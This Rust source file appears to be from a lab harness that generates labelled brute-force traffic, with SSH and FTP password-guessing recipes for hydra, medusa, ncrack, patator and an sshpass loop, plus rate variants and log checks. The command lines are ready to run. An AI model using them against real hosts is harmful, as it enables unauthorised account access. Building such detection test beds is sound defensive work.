//! Passwords guessed by tools.

use super::super::recipe::{ATTACK, Check, Ends, FAR, Recipe, Variant, WAN, on, outside, variant};
use super::services::{DROPBEAR, SSHD, VSFTPD};

/// Word lists of a guesser: the account that is there among others, and none of its passwords.
macro_rules! lists {
    ($rest:literal) => {
        concat!(
            "printf '%s\\n' root admin ops backup test >users
            words passwords ${WORDS:-60} >passwords\n",
            $rest
        )
    };
}

const RATES: &[Variant] = &[
    variant("quick", &[("TASKS", "4"), ("PAUSE", "0"), ("WORDS", "20")]).over(WAN),
    variant("busy", &[("TASKS", "4"), ("PAUSE", "0"), ("WORDS", "20")])
        .over(WAN)
        .busy(),
    variant("single", &[("TASKS", "1"), ("PAUSE", "0"), ("WORDS", "4")])
        .over(FAR)
        .v6(),
];

/// The same for tools that can't be given an IPv6 address.
const RATES_V4: &[Variant] = &[
    RATES[0],
    RATES[1],
    variant("single", &[("TASKS", "1"), ("PAUSE", "0"), ("WORDS", "4")]).over(FAR),
];

const GUESS: Recipe = Recipe {
    attack: "ssh_bruteforce",
    services: &[SSHD.on("server")],
    variants: RATES,
    checks: &[
        Check::Packets("tcp/22", 200),
        Check::Says("sshd", "Failed password", 12),
    ],
    limit_s: 150,
    ..ATTACK
};

pub const RECIPES: &[Recipe] = &[
    Recipe {
        name: "hydra_ssh",
        about: "hydra guesses SSH passwords",
        group: "hydra",
        packages: &["hydra"],
        steps: &[on(
            "attacker",
            lists!(
                "hydra -I -t $TASKS -c $PAUSE -L users -P passwords ssh://$SERVER_URL || test $? = 255"
            ),
        )],
        ..GUESS
    },
    Recipe {
        name: "medusa_ssh",
        about: "medusa guesses SSH passwords",
        group: "medusa",
        packages: &["medusa"],
        steps: &[on(
            "attacker",
            lists!("medusa -h $SERVER -U users -P passwords -M ssh -t $TASKS"),
        )],
        variants: RATES_V4,
        ..GUESS
    },
    Recipe {
        name: "ncrack_ssh",
        about: "ncrack guesses SSH passwords",
        group: "ncrack",
        packages: &["ncrack"],
        steps: &[on(
            "attacker",
            lists!("timeout 90 ncrack -U users -P passwords ssh://$SERVER,CL=$TASKS"),
        )
        .ends(Ends::Anyhow)],
        variants: &[
            variant("quick", &[("TASKS", "4"), ("WORDS", "20")]).over(WAN),
            variant("busy", &[("TASKS", "4"), ("WORDS", "20")])
                .over(WAN)
                .busy(),
            variant("single", &[("TASKS", "1"), ("WORDS", "8")]).over(FAR),
        ],
        ..GUESS
    },
    Recipe {
        name: "sshpass_dropbear",
        about: "a shell script guesses SSH passwords of a small device with sshpass",
        group: "sshpass",
        packages: &["sshpass", "openssh-client"],
        services: &[DROPBEAR.on("server")],
        steps: &[on(
            "attacker",
            lists!("guess() {
                for user in ops root admin; do
                    sshpass -p $1 ssh -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null \
                        -o PubkeyAuthentication=no -o NumberOfPasswordPrompts=1 -o LogLevel=ERROR $user@$SERVER true
                    sleep $PAUSE
                done
            }
            for word in $(cat passwords); do guess $word; done"),
        )],
        variants: &[
            variant("quick", &[("PAUSE", "0"), ("WORDS", "8")]),
            variant("busy", &[("PAUSE", "2"), ("WORDS", "8")])
                .over(WAN)
                .busy(),
        ],
        checks: &[
            Check::Packets("tcp/22", 100),
            Check::Says("dropbear", "Bad password attempt", 12),
        ],
        ..GUESS
    },
    Recipe {
        name: "patator_ssh",
        about: "patator guesses SSH passwords",
        group: "patator",
        packages: &["patator"],
        steps: &[on(
            "attacker",
            lists!(
                "patator ssh_login host=$SERVER user=FILE0 password=FILE1 0=users 1=passwords -t $TASKS"
            ),
        )],
        variants: RATES_V4,
        ..GUESS
    },
    Recipe {
        name: "hydra_ssh_spread",
        about: "twenty sources guess SSH passwords together, each slowly",
        group: "hydra",
        packages: &["hydra"],
        roles: &[
            super::super::recipe::inside("server", 1),
            outside("attacker", 20),
        ],
        steps: &[on(
            "attacker",
            lists!(
                "sleep $NUMBER
            hydra -I -t 1 -c $PAUSE -l root -P passwords ssh://$SERVER_URL || test $? = 255"
            ),
        )],
        variants: &[
            variant("slow", &[("PAUSE", "5"), ("WORDS", "10")]).over(WAN),
            variant("busy", &[("PAUSE", "5"), ("WORDS", "10")])
                .over(WAN)
                .busy(),
        ],
        ..GUESS
    },
    Recipe {
        name: "hydra_ftp",
        about: "hydra guesses FTP passwords",
        attack: "ftp_bruteforce",
        group: "hydra",
        packages: &["hydra"],
        services: &[VSFTPD.on("server")],
        steps: &[on(
            "attacker",
            lists!(
                "hydra -I -t $TASKS -c $PAUSE -L users -P passwords ftp://$SERVER_URL || test $? = 255"
            ),
        )],
        checks: &[
            Check::Packets("tcp/21", 150),
            Check::Says("vsftpd", "FAIL LOGIN", 15),
        ],
        ..GUESS
    },
];
